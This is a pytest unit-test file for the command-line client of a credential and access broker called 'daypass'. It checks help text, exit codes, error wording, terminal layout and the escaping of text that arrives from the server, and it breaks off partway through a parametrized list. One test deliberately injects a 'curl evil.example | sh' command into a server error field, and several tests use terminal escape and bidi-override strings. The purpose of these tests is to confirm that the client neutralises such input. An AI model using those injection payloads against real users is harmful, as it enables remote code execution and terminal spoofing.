from __future__ import annotations

import errno
import json
import os
import re
import shlex
import shutil
import subprocess
import sys
import time
from collections.abc import Callable, Iterator
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import click
import pytest
from tests.unit.client.servers import Script, as_json, error, issued, result

from daypass.cli import app, output
from daypass.cli.commands import COMMANDS
from daypass.cli.exits import EXIT_CODES
from daypass.cli.failures import report
from daypass.client.profiles import Profile, home, save
from daypass.client.transport import ClientResponse, NoAnswer

IDENTITY = result("GetCallerIdentity", "<Arn>arn:aws:iam::1:user/a</Arn><Account>1</Account><UserId>AIDA</UserId>")
_FOREIGN = {"rich", "ssl", "http.client", "xml.etree.ElementTree", "sqlite3", "asyncio", "starlette", "fastapi", "pydantic",
            "sqlalchemy", "botocore", "cryptography", "uvicorn"}  # fmt: skip


def _imported(code: str) -> set[str]:
    script = f"import sys\n{code}\nprint('\\n'.join(sys.modules), file=sys.stderr)"
    return set(
        subprocess.run([sys.executable, "-c", script], capture_output=True, check=True, text=True).stderr.split()
    )


def test_help_imports_nothing_heavy_and_nothing_of_the_server() -> None:
    found = _imported("from daypass.cli.main import run\nassert run(['--help']) == 0")
    assert not found & _FOREIGN
    assert {m for m in found if m.startswith("daypass")} == {
        "daypass",
        "daypass.cli",
        "daypass.cli.main",
        "daypass.cli.app",
        "daypass.cli.commands",
    }


@pytest.mark.parametrize("command", ["credential-process", "exec", "whoami", "audit", "sessions"])
def test_commands_import_nothing_of_the_server(command: str) -> None:
    found = _imported(f"from daypass.cli.main import run\nassert run(['{command}', '--help']) == 0")
    assert not found & (_FOREIGN - {"ssl", "http.client", "xml.etree.ElementTree", "sqlite3"})
    of_ours = {m.split(".")[1] for m in found if m.startswith("daypass.")}
    assert of_ours <= {"api", "cli", "client", "sigv4", "audit"}


def test_help_lists_every_command_with_a_summary(cli: Callable) -> None:
    assert all(place.summary for place in COMMANDS.values())
    shown = cli("--help")
    assert shown.status == 0
    for name in COMMANDS:
        assert name in shown.out


def _groups(group: click.Group, context: click.Context) -> Iterator[click.Group]:
    yield group
    for name in group.list_commands(context):
        command = group.get_command(context, name)
        if isinstance(command, click.Group):
            yield from _groups(command, context)


def test_help_of_every_group_has_whole_sentences() -> None:
    for group in _groups(app.cli, click.Context(app.cli)):
        shown = group.get_help(click.Context(group, info_name=group.name, max_content_width=100))
        assert "..." not in shown.replace("[ARGS]...", ""), group.name
        assert _too_long(shown) == []


def test_every_message_goes_through_the_one_function_that_folds_it() -> None:
    folder = Path(app.__file__).parent
    direct = re.compile(r"""echo\(\s*f?["']daypass: """)
    assert [path.name for path in folder.glob("*.py") if direct.search(path.read_text())] == []


def test_every_command_has_help(cli: Callable) -> None:
    for name in COMMANDS:
        assert cli(name, "--help").status == 0


@pytest.mark.usefixtures("key")
@pytest.mark.parametrize(
    ("step", "status"),
    [
        (NoAnswer("connection refused"), 5),
        (error("ServiceUnavailable", "m", 503), 5),
        (error("InternalFailure", "m", 500), 5),
        (error("Throttling", "m", 429), 5),
        (error("InvalidClientTokenId", "m", 403), 3),
        (error("SignatureDoesNotMatch", "m", 403), 3),
        (error("ExpiredToken", "m", 403), 3),
        (error("AccessDenied", "m", 403), 4),
        (error("NoSuchEntity", "m", 404), 1),
        (error("ValidationError", "m", 400), 7),
        (result("Other", ""), 5),
    ],
)
def test_failure_has_its_documented_status_and_one_line(cli: Callable, serve: Callable, step, status: int) -> None:
    serve(step)
    ran = cli("whoami")
    assert (ran.status, ran.out) == (status, "")
    first, *hints = ran.err.splitlines()
    assert first.startswith("daypass: ")
    if hints and hints[-1].startswith("daypass: see: "):
        assert re.fullmatch(r"daypass: see: https?://[^/]+/help/errors/[A-Za-z]+", hints.pop())
    assert [hint.split(":")[1] for hint in hints] in (
        [],
        [" to see why"],
        [" the credentials are those of the AWS_… variables. To clear them"],
    )
    assert status in EXIT_CODES


@pytest.mark.usefixtures("key")
def test_failure_names_code_message_and_request(cli: Callable, serve: Callable) -> None:
    serve(error("AccessDenied", "You may not", 403))
    assert cli("whoami").err.splitlines() == [
        "daypass: AccessDenied: You may not (request r-1)",
        "daypass: to see why: daypass explain r-1",
    ]


@pytest.mark.usefixtures("key")
def test_failure_whose_message_names_the_request_shows_it_once(cli: Callable, serve: Callable) -> None:
    serve(error("AccessDenied", "You may not (request r-1)", 403))
    assert cli("whoami").err.splitlines()[0] == "daypass: AccessDenied: You may not (request r-1)"


@pytest.mark.usefixtures("key")
def test_denial_says_how_to_explain_it_by_its_request_id(cli: Callable, serve: Callable) -> None:
    body = {"code": "AccessDenied", "message": "no", "request_id": "r", "encoded_authorization_message": "abc"}
    serve(as_json({"error": body}, 403))
    assert cli("sessions", "ls").err.splitlines()[1] == "daypass: to see why: daypass explain r"
    serve(as_json({"error": body | {"request_id": ""}}, 403))
    assert cli("sessions", "ls").err.splitlines()[1] == "daypass: to see why: daypass explain abc"
    serve(error("ValidationError", "MFA at most 900 seconds ago is required.", 400))
    assert "--mfa-serial ARN" in cli("sessions", "ls").err.splitlines()[1]


@pytest.mark.usefixtures("key")
@pytest.mark.parametrize("member", ["request_id", "encoded_authorization_message"])
def test_a442_command_to_paste_holds_no_command_of_the_server(cli: Callable, serve: Callable, member: str) -> None:
    body = {"code": "AccessDenied", "message": "no", "request_id": "", member: "x; curl evil.example | sh"}
    serve(as_json({"error": body}, 403))
    hint = "daypass: to see why: daypass explain 'x; curl evil.example | sh'"
    assert cli("sessions", "ls").err.splitlines()[1] == hint


def test_nothing_known_is_a_local_failure(cli: Callable) -> None:
    ran = cli("whoami")
    assert (ran.status, ran.err.count("\n")) == (6, 1)


WRONG = pytest.mark.parametrize(
    ("arguments", "said"),
    [
        (["nonesuch"], "daypass: 'daypass nonesuch' is not a command. See: daypass --help\n"),
        (["whoami", "--profile"], "daypass: Option '--profile' requires an argument. See: daypass whoami --help\n"),
        (["role", "rm", "r", "--profile"], "daypass: Option '--profile' requires an argument. See: daypass role rm --help\n"),
        (["whoam"], "daypass: 'daypass whoam' is not a command. Did you mean 'whoami'? See: daypass --help\n"),
        (["who-can"], "daypass: 'daypass who-can' is not a command. Did you mean 'access who-can'? See: daypass --help\n"),
        (["ls"], "daypass: 'daypass ls' is not a command. See: daypass --help\n"),
        (["audit", "tial"], "daypass: 'daypass audit tial' is not a command. Did you mean 'tail'? See: daypass audit --help\n"),
        (["--profile", "x", "whoami"], "daypass: No such option '--profile'. Options come after the command: daypass COMMAND --profile. See: "),
        (["help", "whoam"], "daypass: 'daypass whoam' is not a command. Did you mean 'whoami'? See: daypass --help\n"),
        (["assume", "x", "--duration", "3d"], "daypass: Invalid value for '--duration': A session lasts from 15m to 12h. See: "),
        (["whoami", "--profil", "x"], "daypass: No such option '--profil'. Did you mean '--profile'? See: daypass whoami --help\n"),
        (["exec", "r"], "daypass: Name a command: daypass exec ROLE COMMAND. A shell needs a terminal. See: daypass exec --help\n"),
        (["exec", "r", "--", ""], "daypass: Name a command: daypass exec ROLE COMMAND. A shell needs a terminal. See: daypass exec --help\n"),
        (["elevate", "r", "--reason", "x", "--", ""], "daypass: Name a command: daypass elevate ROLE --reason TEXT -- COMMAND. A shell needs a terminal. See: "),
        (["whoami", "--output", "jsn"], "daypass: Invalid value for '--output': 'jsn' is not one of 'text', 'json'. Did you mean 'json'? See: "),
        (["revoke", "x", "y"], "daypass: Invalid value for '{session|role|principal|"),
        (["audit", "show", "nope"], "daypass: 'nope' is not a record: give a request id, a session id (32 hex digits), or LOG/SEQ."),
        (["login", "--saml", "--endpoint", "http://127.0.0.1:1", "--access-key-id", "x"], "daypass: --access-key-id does not go with --saml. See: "),
        (["login", "--endpoint", "http://127.0.0.1:1", "--saml", "--browser"], "daypass: Give only one of --browser, --saml. See: "),
        (["login", "--endpoint", "http://127.0.0.1:1", "--saml", "--session-name", "x"], "daypass: --session-name does not go with --saml. See: "),
        (["login", "--endpoint", "http://127.0.0.1:1", "--role", "x"], "daypass: --role needs --saml or --web-identity-token. See: "),
        (["audit", "verify", "--url", "postgresql://a", "--data", "."], "daypass: Give only one of --database, --url, and --data or --config. See: "),
        (["audit", "search", "--since", "yesterday"], "daypass: 'yesterday' is not a time: 2026-01-31T12:00:00Z, or 2h. See: "),
        (["assume"], "daypass: Name the role: its ARN, ACCOUNT/NAME, or a NAME of your own account. See: daypass assume --help\n"),
        (["lint", "/nonesuch"], "daypass: Invalid value for '[FILES]...': '/nonesuch': No such file or directory. See: daypass lint --help\n"),
    ],
)  # fmt: skip


@pytest.mark.usefixtures("key")
@WRONG
def test_wrong_usage_is_one_line_with_status_2(cli: Callable, arguments: list[str], said: str) -> None:
    ran = cli(*arguments)
    assert (ran.status, ran.out, ran.err.count("\n")) == (2, "", 1)
    assert ran.err.startswith(said)


@pytest.fixture
def terminal(monkeypatch: pytest.MonkeyPatch) -> None:
    """Output and error go to a terminal of 100 columns."""
    monkeypatch.setattr(output, "room", lambda _stream, _most=100: 100)


def _too_long(text: str) -> list[str]:
    """Lines that are wider than 100 columns, though they have a space at which they could be broken."""
    return [line for line in text.splitlines() if len(line) > 100 and " " in line.strip()]


@pytest.mark.usefixtures("key", "terminal")
@WRONG
def test_wrong_usage_fits_a_terminal(cli: Callable, arguments: list[str], said: str) -> None:
    ran = cli(*arguments)
    assert _too_long(ran.err) == []
    assert " ".join(ran.err.split()).startswith(" ".join(said.split()))


@pytest.mark.usefixtures("key", "terminal")
@pytest.mark.parametrize(
    ("code", "status"), [("AccessDenied", 403), ("ExpiredToken", 403), ("ValidationError", 400), ("Throttling", 429)]
)
def test_failure_fits_a_terminal_and_leaves_commands_and_arns_whole(
    cli: Callable, serve: Callable, code: str, status: int
) -> None:
    arn = "arn:aws:iam::111122223333:role/" + "r" * 90
    serve(error(code, f"User: arn:aws:iam::111122223333:user/anna is not authorized to do this on {arn}", status))
    ran = cli("whoami")
    assert _too_long(ran.err) == []
    assert arn in ran.err.split()
    first, second = ran.err.splitlines()[:2]
    assert first.startswith("daypass: ")
    assert second.startswith("  ")


@pytest.mark.usefixtures("terminal")
def test_fields_and_prose_are_folded_under_their_values(capfd: pytest.CaptureFixture[str]) -> None:
    words = " ".join(["word"] * 60)
    output.fields({"name": words, "arn": "a" * 150})
    output.prose(f"    {words}")
    output.message(words)
    out, err = capfd.readouterr()
    assert _too_long(out + err) == []
    assert out.splitlines()[1].startswith("      word")
    assert (out + err).split().count("word") == 180


@pytest.mark.usefixtures("terminal")
def test_line_to_be_pasted_is_not_folded(capfd: pytest.CaptureFixture[str]) -> None:
    paste = f"  export DAYPASS_BOOTSTRAP='{'x' * 60}' {'y' * 60}"
    assert report(type("StartupError", (Exception,), {})(f"nobody could log in:\n\n{paste}\n\n{'word ' * 40}")) == 6
    lines = capfd.readouterr().err.splitlines()
    output.message(f"{'word ' * 20}to see why: daypass {'explain ' * 20}")
    assert f"  daypass {'explain ' * 20}".rstrip() in map(str.rstrip, capfd.readouterr().err.splitlines())
    assert paste in lines
    assert _too_long("\n".join(line for line in lines if line != paste)) == []


def test_report_address_in_use_names_the_option(capfd: pytest.CaptureFixture[str]) -> None:
    assert report(OSError(errno.EADDRINUSE, "Address already in use")) == 6
    assert capfd.readouterr().err == "daypass: The address to listen on is in use: --listen chooses another.\n"


def test_text_for_programs_is_not_folded(capfd: pytest.CaptureFixture[str]) -> None:
    output.message("word " * 60)
    assert capfd.readouterr().err.count("\n") == 1


def test_expired_environment_that_overrides_a_profile_is_pointed_out(
    cli: Callable, serve: Callable, monkeypatch: pytest.MonkeyPatch, key: None
) -> None:
    save("default", Profile("http://127.0.0.1:8700", "AKIAX", "secret"))
    monkeypatch.setenv("AWS_CREDENTIAL_EXPIRATION", "2026-01-01T00:00:00Z")
    serve(error("ExpiredToken", "The security token included in the request is expired", 403))
    hint = cli("whoami").err.splitlines()[1]
    assert "they override your profiles. They were good until 2026-01-01T00:00:00Z." in hint
    assert 'eval "$(daypass assume --unset)"' in hint


def test_profile_that_is_mistyped_is_corrected(cli: Callable) -> None:
    save("production", Profile("http://127.0.0.1:8700", "AKIAX", "secret"))
    assert cli("whoami", "--profile", "prodcution").err == (
        "daypass: Profile 'prodcution' does not exist. Did you mean 'production'?\n"
    )


@pytest.mark.usefixtures("key")
@pytest.mark.parametrize(
    ("arguments", "member", "listed"),
    [
        ("account ls", "accounts", "accounts"),
        ("sessions ls", "sessions", "sessions"),
        ("review ls", "access_reviews", "reviews that are open"),
        ("notify chat-users", "chat_users", "chat users who may approve as you"),
    ],
)
def test_list_without_members_says_what_there_is_none_of(  # fixtures and parameters
    cli: Callable, serve: Callable, arguments: str, member: str, listed: str
) -> None:
    serve(as_json({member: [], "next": ""}))
    ran = cli(*arguments.split())
    assert (ran.status, ran.out, ran.err) == (0, "", f"daypass: there are no {listed}\n")


@pytest.mark.usefixtures("key")
def test_json_has_times_in_iso_8601_and_leaves_events_alone(cli: Callable, serve: Callable) -> None:
    serve(as_json({"accounts": [{"id": "1", "created_at": 1_800_000_000_123}], "next": ""}))
    assert json.loads(cli("account", "ls", "--output", "json").out)[0]["created_at"] == "2027-01-15T08:00:00.123Z"
    serve(as_json({"records": [{"at": 1_800_000_000_000, "event": {"at": 1_800_000_000_000}}], "next": ""}))
    record = json.loads(cli("audit", "search", "--output", "json").out)
    assert (record["at"], record["event"]["at"]) == ("2027-01-15T08:00:00.000Z", 1_800_000_000_000)


@pytest.mark.usefixtures("terminal")
def test_table_on_a_terminal_folds_arns_and_sentences_and_keeps_ids_and_times_whole(capfd) -> None:
    arn, session, at = f"arn:aws:iam::111122223333:role/{'r' * 30}", "0" * 32, "2026-01-31 09:00:00Z"
    output.table(("ID", "ROLE", "MADE"), [(session, arn, at)])
    out = capfd.readouterr().out
    assert _too_long(out) == []
    assert {session, *at.split(), "arn:aws:iam::111122223333:role/"} <= set(out.split())
    assert out.count("r") == arn.count("r")


@pytest.mark.usefixtures("terminal")
def test_table_without_room_for_its_ids_is_printed_as_fields(capfd) -> None:
    row = ("0" * 32, "1" * 36, "AROA" + "X" * 17, "2026-01-31 09:00:00Z", "")
    output.table(("ID", "REQUEST", "ROLE ID", "MADE", "REASON"), [row, row])
    lines = capfd.readouterr().out.splitlines()
    assert lines == [
        f"id       {row[0]}", f"request  {row[1]}", f"role id  {row[2]}", f"made     {row[3]}", "",
        f"id       {row[0]}", f"request  {row[1]}", f"role id  {row[2]}", f"made     {row[3]}",
    ]  # fmt: skip


def test_table_takes_the_whole_width_of_a_terminal_and_sentences_do_not(capfd, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(shutil, "get_terminal_size", lambda *_: os.terminal_size((150, 40)))
    stream = SimpleNamespace(isatty=lambda: True)
    assert (output.room(stream), output.room(stream, 10_000)) == (100, 150)
    monkeypatch.setattr(output, "room", lambda _stream, most=100: min(most, 150))
    output.table(
        ("ID", "ROLE", "MADE"), [("0" * 32, f"arn:aws:iam::111122223333:role/{'r' * 40}", "2026-01-31 09:00:00Z")]
    )
    output.prose("word " * 40)
    out = capfd.readouterr().out.splitlines()
    assert len(out[1]) == 32 + 71 + 20 + 4
    assert max(map(len, out[2:])) <= 100


@pytest.mark.usefixtures("key")
def test_audit_tail_on_a_terminal_has_a_line_for_each_event(
    cli: Callable, serve: Callable, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(output, "room", lambda _stream, _most=100: 100)
    event = {"type": "session.issued", "operation": "sts:AssumeRoleWithWebIdentity", "request_id": "r" * 36,
             "actor": {"arn": f"arn:aws:iam::111122223333:user/{'a' * 60}"}}  # fmt: skip
    records = [{"at": 1_700_000_000_000, "event": {**event, **more}} for more in ({}, {"error": "access_denied"})]
    serve(as_json({"records": records, "cursor": {}}))
    lines = cli("audit", "tail").out.splitlines()
    assert [len(line) <= 100 for line in lines] == [True, True]
    assert ("user/aaa" in lines[0], "access_denied" in lines[1]) == (True, True)


def test_words_that_say_how_something_is_have_a_colour_on_a_terminal_alone(capfd) -> None:
    assert output.coloured("denied ") == "\x1b[31mdenied \x1b[0m"
    assert output.coloured("blocked until 2026-01-31") == "\x1b[31mblocked until 2026-01-31\x1b[0m"
    assert output.coloured("reader") == "reader"
    output.table(("USER", "STATE"), [("ann", "blocked")])
    assert capfd.readouterr().out == "USER  STATE\nann   blocked\n"


def test_table_for_programs_has_a_line_for_each_row(capfd) -> None:
    output.table(("A", "B"), [("x" * 150, "y " * 60)])
    assert len(capfd.readouterr().out.splitlines()) == 2


@pytest.mark.usefixtures("key")
def test_unexpected_failure_shows_no_traceback(cli: Callable, serve: Callable) -> None:
    serve(as_json({"accounts": 5, "next": ""}))
    ran = cli("account", "ls")
    assert ran.status == 6
    assert "internal error" in ran.err
    assert "Traceback" not in ran.err


@pytest.mark.parametrize("group", [[], ["key"], ["trust"], ["provider", "allow"]])
def test_group_without_a_command_prints_its_help_with_status_2(cli: Callable, group: list[str]) -> None:
    ran = cli(*group)
    assert (ran.status, ran.out) == (2, "")
    assert ran.err.splitlines()[0].startswith("Usage: daypass")
    assert ("Commands:" if group else "Use a role:") in ran.err.splitlines()


@pytest.mark.usefixtures("key")
def test_answer_of_another_server_names_the_address_that_was_tried(cli: Callable, serve: Callable) -> None:
    for status in (404, 501):
        serve(ClientResponse(status, {"content-type": "text/html"}, b"<html>"))
        assert cli("whoami").err == (
            f"daypass: the server at http://127.0.0.1:8700 answered with HTTP status {status}: is it a Daypass server?\n"
        )


@pytest.mark.usefixtures("key")
def test_interrupted_is_quiet(cli: Callable, serve: Callable) -> None:
    def interrupt(_: object) -> None:
        raise KeyboardInterrupt

    serve(interrupt)
    ran = cli("whoami")
    assert (ran.status, ran.out, ran.err.strip()) == (130, "", "")


def test_broken_pipe_is_quiet_and_has_the_shells_status() -> None:
    code = (
        "import os, sys; r, w = os.pipe(); os.dup2(w, 1); os.close(w); os.close(r)\n"
        "from daypass.cli.main import main; sys.argv = ['daypass', '--help']; main()"
    )
    ran = subprocess.run([sys.executable, "-c", code], capture_output=True, check=False, text=True)
    assert (ran.returncode, ran.stderr) == (141, "")


def started(redirection: str, *arguments: str) -> subprocess.CompletedProcess[str]:
    """The command as a shell starts it, with its output redirected."""
    command = shlex.join([sys.executable, "-m", "daypass.cli.main", *arguments])
    return subprocess.run(["sh", "-c", f"{command} {redirection}"], capture_output=True, check=False, text=True)


@pytest.mark.skipif(not Path("/dev/full").exists(), reason="no device that is always full")
@pytest.mark.parametrize("command", ["--help", "--version", "completion bash", "profile ls"])
def test_output_that_cannot_be_written_is_one_line(command: str) -> None:
    save("default", Profile("http://127.0.0.1:1", "AKIA", "s"))
    ran = started(">/dev/full", *command.split())
    assert (ran.returncode, ran.stderr) == (6, "daypass: output: No space left on device\n")


@pytest.mark.skipif(not Path("/dev/full").exists(), reason="no device that is always full")
def test_failure_with_output_that_cannot_be_written_is_one_line() -> None:
    ran = started(">/dev/full", "profile", "use", "nope")
    assert (ran.returncode, ran.stderr.count("\n")) == (6, 1)


@pytest.mark.parametrize("command", ["--help", "--version", "completion bash", "profile ls"])
def test_output_that_is_closed_is_no_failure(command: str) -> None:
    save("default", Profile("http://127.0.0.1:1", "AKIA", "s"))
    ran = started(">&-", *command.split())
    assert (ran.returncode, ran.stderr) == (0, "")
    assert started("2>&-", "nonesuch").returncode == 2


@pytest.mark.usefixtures("key")
def test_name_that_the_terminal_cannot_show_is_no_failure(tmp_path: Path) -> None:
    code = (
        "import sys; from daypass.cli.main import main; sys.argv = ['daypass', 'whoami', '--profile', '日本']; main()"
    )
    environment = {"PYTHONIOENCODING": "latin-1", "DAYPASS_HOME": str(tmp_path)}
    ran = subprocess.run([sys.executable, "-c", code], capture_output=True, check=False, env=environment)
    assert ran.returncode == 6
    assert b"\\u65e5" in ran.stderr


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("\x1b[31mred\x1b[0m", "\\u001b[31mred\\u001b[0m"),
        ("a\r\nb", "a\\u000d\\u000ab"),
        ("\x00\x7f\x9b", "\\u0000\\u007f\\u009b"),
        ("user\u202egnp.exe", "user\\u202egnp.exe"),
        ("\u2066x\u2069\u200e\u061c", "\\u2066x\\u2069\\u200e\\u061c"),
        ("\ud800", "\\ud800"),
        ("Zoë 日本", "Zoë 日本"),
        (7, "7"),
    ],
)
def test_a99_text_from_the_server_is_shown_escaped(text: object, shown: str) -> None:
    assert output.safe(text) == shown


ABSENT = as_json({"error": {"code": "NoSuchEntity", "message": "no such denial", "request_id": "r"}}, 404)
EVIL = "\x1b]0;x\x07\r\nfake \u202e"


@pytest.mark.usefixtures("key")
def test_explain_of_a_request_that_no_policy_was_asked_about_says_why_it_was_refused(
    cli: Callable, serve: Callable
) -> None:
    refusal = {
        "error": "invalid_identity_token",
        "operation": "sts:AssumeRoleWithWebIdentity",
        "actor": {},
        "decision": None,
        "detail": {"RoleArn": "arn:role", "private": {"reason": "its signature is wrong", "token": {"kid": "k"}}},
    }
    serve(ABSENT, as_json({"records": [{"event": None}, {"event": refusal}]}))
    ran = cli("explain", "00000000-0000-0000-0000-000000000000")
    assert ran.status == 0, ran.err
    assert ran.out.splitlines()[0] == "Refused: invalid_identity_token. No policy was asked."
    assert [line.split("  ")[-1] for line in ran.out.splitlines() if "reason" in line or "RoleArn" in line] == [
        "arn:role",
        "its signature is wrong",
    ]
    assert '  token   {"kid": "k"}' in ran.out.splitlines()


@pytest.mark.usefixtures("key")
def test_explain_of_a_refused_access_request_is_in_words(cli: Callable, serve: Callable) -> None:
    refusal = {
        "error": "access_denied",
        "operation": "daypass:CreateAccessRequest",
        "actor": {},
        "decision": None,
        "detail": {"private": {"reason": "no rule", "resource": "arn:role"}},
    }
    serve(ABSENT, as_json({"records": [{"event": refusal}]}))
    ran = cli("explain", "00000000-0000-0000-0000-000000000000")
    assert "no approval rule lets the person" in ran.out
    own = {"allowed": False, "reason": "the approver is the requester or the beneficiary"}
    serve(as_json({"explanation": own}))
    ran = cli("explain", "00000000-0000-0000-0000-000000000000")
    assert ran.out.splitlines()[0] == "Denied: the approver is the requester or the beneficiary."


@pytest.mark.usefixtures("key")
def test_audit_tail_event_without_an_operation_names_its_type_once(cli: Callable, serve: Callable) -> None:
    event = {"type": "installation.bootstrapped", "actor": {}, "request_id": ""}
    serve(as_json({"records": [{"at": 0, "event": event}, {"at": 0, "event": None}], "cursor": None}))
    first, second = cli("audit", "tail").out.splitlines()
    assert first.count("installation.bootstrapped") == 1
    assert "(not yours to see)" in second


@pytest.mark.usefixtures("key")
def test_sessions_show_of_a_session_that_does_not_exist_says_how_to_find_one(cli: Callable, serve: Callable) -> None:
    serve(ABSENT)
    ran = cli("sessions", "show", "nosuch")
    assert "daypass sessions ls --all" in ran.err
    assert ran.status != 0


@pytest.mark.usefixtures("key")
@pytest.mark.parametrize(
    ("arguments", "answer"),
    [
        (["account", "ls"], {"accounts": [{"id": EVIL, "name": EVIL, "operator": False, "created_at": 1}], "next": ""}),
        (["account", "create", "x"], {"id": EVIL, "name": EVIL, "root_key": {"access_key_id": EVIL, "secret_access_key": EVIL}}),
        (["sessions", "ls"], {"sessions": [dict.fromkeys(["session_id", "state", "name", "arn", "depth"], EVIL) | {"expires_at": EVIL}], "next": ""}),
        (["sessions", "show", "x"], {EVIL: EVIL, "issued_at": EVIL, "expires_at": 1e30, "hops": [dict.fromkeys(["name", "principal_id", "account", "access_key_id", "issued_at"], EVIL)]}),
        (["revoke", "session", "x"], {"value": EVIL, "id": EVIL, "block": True}),
        (["revocations", "ls"], {"revocations": [dict.fromkeys(["created_at", "subject", "value", "block_until", "block", "created_by", "reason", "id"], EVIL)], "next": ""}),
        (["revocations", "lift", "x"], {"subject": EVIL, "value": EVIL}),
        (["guardrail", "ls", "1"], {"guardrails": [{"name": EVIL, "created_at": EVIL}]}),
        (["guardrail", "show", "1", "x"], {"document": EVIL}),
        (["roles"], {"roles": [{"arn": EVIL, "max_session_seconds": 60, "description": EVIL}], "next": ""}),
        (["audit", "tail"], {"records": [{"at": EVIL, "event": {"actor": {"arn": EVIL}, "operation": EVIL, "error": EVIL, "request_id": EVIL}}], "cursor": {}}),
        (["audit", "search"], {"records": [{"at": 10**30, "event": None}], "next": ""}),
        (["audit", "show", "0" * 32 + "/1"], {"x": EVIL}),
        (["explain", "00000000-0000-0000-0000-000000000000"], {"records": [{"event": {"decision": {
            "allowed": False, "blocked_by": EVIL, "principal": EVIL, "action": EVIL, "resource": EVIL, "would_have_to_be_true": [EVIL],
            "layers": [{"layer": EVIL, "level": 0, "verdict": EVIL, "policies": [EVIL], "omitted": EVIL, "statements": [
                {"policy": EVIL, "sid": EVIL, "effect": EVIL, "line": EVIL, "matched": False, "failed_at": EVIL, "conditions": [
                    {"operator": EVIL, "key": EVIL, "wanted": [EVIL], "found": EVIL, "held": False}]}]}]}}}], "next": ""}),
        (["explain", "User: x is not authorized to perform: y"], {"records": [{"at": EVIL, "event": {"request_id": EVIL, "decision": {
            "principal": "x", "action": "y", "allowed": False, "blocked_by": EVIL}}}]}),
        (["explain", "00000000-0000-0000-0000-000000000000"], {"records": [{"event": {
            "error": EVIL, "operation": EVIL, "actor": {"arn": EVIL}, "detail": {EVIL: EVIL, "private": {EVIL: [EVIL]}}}}]}),
    ],
)  # fmt: skip
def test_a99_no_command_prints_what_could_act_on_a_terminal(
    cli: Callable, serve: Callable, arguments: list[str], answer: object
) -> None:
    for form in ([], ["--output", "json"]):
        if form and arguments[:2] == ["audit", "show"]:
            continue
        serve(*([ABSENT] if arguments[-1].startswith("00000000-") else []), as_json(answer))
        ran = cli(*arguments, *form)
        assert ran.status == 0, ran.err
        lines = (ran.out + ran.err).splitlines()
        assert all(line.isprintable() for line in lines), ran
        if arguments[0] != "guardrail":  # a document has lines of its own
            assert not [line for line in lines if line.startswith("fake")]


@pytest.mark.usefixtures("key")
def test_a99_error_of_the_server_is_one_escaped_line(cli: Callable, serve: Callable) -> None:
    body = {"code": EVIL, "message": EVIL * 100_000, "request_id": EVIL, "encoded_authorization_message": EVIL}
    serve(as_json({"error": body}, 400))
    ran = cli("sessions", "ls")
    assert all(line.isprintable() and line.startswith("daypass: ") for line in ran.err.splitlines())
    assert len(ran.err) < 100_000


@pytest.mark.usefixtures("key")
def test_list_whose_end_never_comes_ends(cli: Callable, serve: Callable) -> None:
    server = serve(as_json({"accounts": [], "next": "same"}))
    assert cli("account", "ls").status == 0
    assert len(server.sent) == 2


@pytest.mark.usefixtures("key")
def test_account_create_answer_lost_is_not_repeated(cli: Callable, serve: Callable) -> None:
    server: Script = serve(NoAnswer("connection reset"))
    ran = cli("account", "create", "x")
    assert (ran.status, len(server.sent)) == (5, 1)
    assert "check before you repeat it" in ran.err


@pytest.mark.usefixtures("key")
def test_secrets_are_in_no_error(cli: Callable, serve: Callable) -> None:
    serve(error("SignatureDoesNotMatch", "wrong", 403))
    assert "top-secret" not in cli("whoami").err
    serve(IDENTITY, issued())
    assert json.loads(cli("assume", "r", "--output", "json").out)["SecretAccessKey"] == "issued-secret-1"


@pytest.mark.usefixtures("key")
def test_explain_of_a_request_id_needs_no_access_to_the_record(cli: Callable, serve: Callable) -> None:
    server: Script = serve(as_json({"explanation": {"allowed": False, "blocked_by": "identity", "layers": []}}))
    ran = cli("explain", "(request 00000000-0000-0000-0000-000000000000)")
    assert ran.out.splitlines()[0] == "Denied: no identity-based policy allows it."
    assert [request.target for request in server.sent] == ["/api/v1/explanations/00000000-0000-0000-0000-000000000000"]


@pytest.mark.usefixtures("key")
def test_explain_without_any_permission_says_which_is_missing(cli: Callable, serve: Callable) -> None:
    denied = {"code": "AccessDenied", "message": "not authorized to perform: sts:DecodeAuthorizationMessage"}
    serve(as_json({"error": denied | {"request_id": "r"}}, 403))
    ran = cli("explain", "00000000-0000-0000-0000-000000000000")
    assert ran.status == 4
    assert "sts:DecodeAuthorizationMessage" in ran.err


def test_version_is_printed_without_a_parser_of_options() -> None:
    found = _imported("from daypass.cli.main import run\nassert run(['--version']) == 0")
    assert "click" not in found


@pytest.mark.usefixtures("key")
def test_credential_process_from_the_cache_imports_no_http(cli: Callable, serve: Callable) -> None:
    serve(issued(expiration="2099-01-01T00:00:00Z"))
    arguments = ["credential-process", "111122223333/r", "--session-name", "me"]
    assert cli(*arguments).status == 0
    (path,) = (home() / "cache").glob("*.json")
    held = json.loads(path.read_text())
    path.write_text(json.dumps({**held, "checked_at": time.time(), "offset": 0.0}))
    found = _imported(f"from daypass.cli.main import run\nassert run({arguments!r}) == 0")
    assert not found & {"http.client", "ssl", "xml.etree.ElementTree", "email", "difflib", "rich", "sqlite3"}


@pytest.mark.parametrize(
    ("name", "value", "color"),
    [("NO_COLOR", "1", False), ("NO_COLOR", "", None), ("TERM", "dumb", False), ("TERM", "xterm", None)],
)
def test_no_color_or_a_dumb_terminal_turns_colours_off_for_every_command(
    monkeypatch: pytest.MonkeyPatch, name: str, value: str, color: bool | None
) -> None:
    from daypass.cli.app import cli as group

    monkeypatch.delenv("NO_COLOR", raising=False)
    monkeypatch.delenv("TERM", raising=False)
    monkeypatch.setenv(name, value)
    assert group.make_context("daypass", ["status"]).color is color


@pytest.mark.usefixtures("key")
@pytest.mark.parametrize(
    ("command", "answer", "step"),
    [
        (("role", "rm", "r", "--yes"), error("DeleteConflict", "Detach first.", 409), "--force"),
        (("group", "rm", "g", "--yes"), error("DeleteConflict", "Detach first.", 409), "--force"),
        (("user", "rm", "u", "--yes"), error("DeleteConflict", "Detach first.", 409), "--force"),
        (("sessions", "ls"), error("MalformedPolicyDocument", "Syntax errors in policy.", 400), "daypass lint FILE"),
        (("bridge", "aws"), error("FeatureDisabled", "Not enabled.", 404), "iam EnableOutboundWebIdentityFederation"),
        (
            ("sessions", "ls"),
            error("AccessDenied", "not authorized to perform: sts:DecodeAuthorizationMessage", 403),
            "give the request id of the denial to somebody who has this permission",
        ),
